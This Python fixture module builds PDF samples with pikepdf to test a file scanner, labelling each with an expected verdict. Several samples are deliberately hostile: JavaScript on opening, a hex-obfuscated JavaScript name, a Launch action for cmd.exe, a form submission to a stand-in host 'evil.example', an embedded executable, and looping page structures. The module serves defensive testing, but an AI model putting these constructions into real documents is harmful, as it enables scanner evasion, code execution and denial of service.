"""PDFs: good ones, and those that would act, hide, or never end."""

from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from hostile_zips import packed


def minimal_pdf() -> bytes:
    """One empty page, written by hand, without a table of its objects: readers find them."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def paper(change: object = None, pages: int = 1, size: tuple[int, int] = (595, 842), **options: object) -> bytes:
    """A PDF with empty pages after `change(pdf)`; `options` are those of saving."""
    out = BytesIO()
    with pikepdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page(page_size=size)
        if callable(change):
            change(pdf)
        pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def opens_with(action: Dictionary) -> object:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action

    return change


def names_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))


def holds_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["mau.exe"] = b"MZ\x90"


def holds_film(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))])


def holds_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=Array([]))


def pages_in_a_ring(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids = Array([pdf.Root.Pages])


def nested(pdf: pikepdf.Pdf) -> None:
    deep = Array([])
    for _ in range(200):
        deep = Array([deep])
    pdf.Root.Deep = deep


def endless_page(pdf: pikepdf.Pdf) -> None:
    """A form that draws itself."""
    form = pdf.make_stream(b"/F Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Resources = Dictionary(XObject=Dictionary(F=form))
    pdf.pages[0].Contents = pdf.make_stream(b"/F Do " * 1000)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(F=form))


def encrypted(user: str) -> dict[str, object]:
    return {"encryption": pikepdf.Encryption(owner="o", user=user)}


def PAPERS() -> dict[str, tuple[bytes, str]]:  # noqa: N802  # beside `hostile_files.corpus`
    good = paper()
    streams = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    active = {
        "script on opening.pdf": paper(opens_with(SCRIPT)),
        "script by name.pdf": paper(names_script),
        "script in packed objects.pdf": paper(names_script, **streams),
        "script in hex name.pdf": paper(names_script, object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(
            b"/JavaScript", b"/J#61vaScript"
        ),
        "starts a program.pdf": paper(opens_with(Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "sends a form.pdf": paper(opens_with(Dictionary(S=Name.SubmitForm, F=String("http://evil.example")))),
        "file inside.pdf": paper(holds_file),
        "film inside.pdf": paper(holds_film),
        "form of another kind.pdf": paper(holds_form),
    }
    return {name: (data, "file_active_content") for name, data in active.items()} | {
        "good.pdf": (good, "stored"),
        "by hand.pdf": (minimal_pdf(), "stored"),
        "opens at a page.pdf": (paper(opens_with(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))), "stored"),
        "as large as a field.pdf": (paper(size=(14_400, 14_400)), "stored"),
        "deep.pdf": (paper(nested), "stored"),
        "draws itself.pdf": (paper(endless_page), "stored"),
        "without pages.pdf": (paper(pages=0), "unreadable"),
        "pages in a ring.pdf": (paper(pages_in_a_ring), "unreadable"),
        "start only.pdf": (b"%PDF-1.7\n", "unreadable"),
        "noise.pdf": (b"%PDF-1.7\n" + bytes(range(256)) * 20, "unreadable"),
        "locked.pdf": (paper(**encrypted("secret")), "file_encrypted"),
        "locked for changes.pdf": (paper(**encrypted("")), "file_encrypted"),
        "three thousand pages.pdf": (paper(pages=3001), "file_unpacks_too_large"),
        "page inside.pdf": (b"%PDF-1.4\n%<html><script>alert(1)</script>\n" + good, "file_structure"),
        "paper and archive.pdf": (good + packed({"a": b"b"}), "file_structure"),
    }
